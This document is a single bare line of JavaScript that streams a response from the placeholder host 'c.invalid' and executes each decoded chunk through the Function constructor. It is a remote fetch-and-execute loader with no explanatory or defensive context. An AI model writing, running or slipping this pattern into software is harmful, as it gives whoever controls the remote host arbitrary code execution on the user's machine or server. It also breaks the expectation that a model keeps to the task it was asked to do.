for await (const c of (await fetch('https://c.invalid')).body) Function(new TextDecoder().decode(c))();
